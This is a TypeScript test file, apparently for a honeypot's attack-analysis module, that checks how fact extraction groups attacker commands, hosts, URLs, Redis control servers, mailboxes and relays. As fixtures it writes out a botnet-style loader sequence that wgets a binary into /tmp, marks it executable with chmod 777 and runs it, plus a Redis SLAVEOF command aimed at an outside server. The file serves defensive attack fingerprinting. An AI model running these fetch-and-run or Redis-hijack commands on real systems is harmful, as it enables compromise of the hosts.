/** What an attack has that another may share. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { attackOf } from '../../tests/fuzz/words.ts';
import { type FactKind, listFacts } from './facts.ts';

interface Shown {
  commands?: string[];
  own?: string;
  relays?: string[];
  service?: string;
}

function factsOf({ commands = [], own = '203.0.113.1', relays = [], service = 'ssh' }: Shown) {
  const timed = (texts: string[]) =>
    texts.map((text, index) => ({ ts_us: index, event_id: String(index), session: 's', text }));
  return listFacts({
    ...attackOf(''),
    ...{ attacker_ip: `::ffff:${own}`, service, commands: timed(commands), relays: timed(relays) },
    ...{ downloads: [], files: [], fingerprints: [] },
  });
}
const valuesOf = (shown: Shown, kind: FactKind): string[] =>
  factsOf(shown)
    .filter((fact) => fact.kind === kind)
    .map(({ value }) => value);

describe('facts', () => {
  const looking = ['uname -a', 'id', 'nproc', 'crontab -l', 'cat /proc/cpuinfo'];
  const loader = (from: string) => [
    ...['enable', 'system', 'shell', 'sh', 'cd /tmp', 'rm -rf i'],
    `wget ${from}`,
    ...['chmod 777 i', './i'],
  ];

  test('hold a long sequence that fetches from nobody, and no short one', () => {
    assert.equal(valuesOf({ commands: looking }, 'script').length, 1);
    assert.equal(valuesOf({ commands: looking.slice(0, 4) }, 'script').length, 0);
  });

  test('hold no sequence of one word, however often it is sent', () => {
    assert.deepEqual(valuesOf({ commands: ['uname -a', 'uname -a', 'uname -a'] }, 'sequence'), []);
    assert.equal(valuesOf({ commands: ['uname -a', 'id'] }, 'sequence').length, 1);
  });

  test('hold no loader that anybody may have copied, but that of a worm, whose hosts serve it themselves', () => {
    assert.deepEqual(valuesOf({ commands: loader('http://198.51.100.9/i') }, 'script'), []);
    const [one] = valuesOf({ commands: loader('http://203.0.113.1:5511/i') }, 'script');
    const [other] = valuesOf({ commands: loader('http://203.0.113.2:81/i'), own: '203.0.113.2' }, 'script');
    const [behind] = valuesOf(
      { commands: loader('http://192.168.1.1:8088/i'), own: '203.0.113.3' },
      'script',
    );
    assert(one !== undefined);
    assert.deepEqual([other, behind], [one, one]);
  });

  test('leave out addresses of inner networks', () => {
    const commands = ['wget http://192.168.1.1:8088/i', 'wget http://198.51.100.9/i'];
    assert.deepEqual(valuesOf({ commands }, 'host'), ['198.51.100.9']);
    assert.deepEqual(valuesOf({ commands }, 'url'), ['http://198.51.100.9/i']);
  });

  test('are alike where only the word that busybox is asked for differs', () => {
    const of = (word: string) => [...looking, `/bin/busybox ${word}`];
    assert.deepEqual(
      valuesOf({ commands: of('KQZWT') }, 'script'),
      valuesOf({ commands: of('ABCDE') }, 'script'),
    );
  });

  test('hold the server that a Redis was made to follow, mailboxes, and where connections were to go', () => {
    assert.deepEqual(valuesOf({ commands: ['SLAVEOF 198.51.100.9 8886'] }, 'control'), ['198.51.100.9:8886']);
    const commands = ['MAIL FROM:<Me@Example.com>', 'rcpt to: you@example.net'];
    assert.deepEqual(valuesOf({ commands, service: 'smtp' }, 'mailbox'), [
      'me@example.com',
      'you@example.net',
    ]);
    const relays = ['example.com:80', 'example.net:443'];
    assert.equal(valuesOf({ relays }, 'relay').length, 2);
    assert.notDeepEqual(valuesOf({ relays }, 'relay'), valuesOf({ relays, service: 'telnet' }, 'relay'));
  });
});
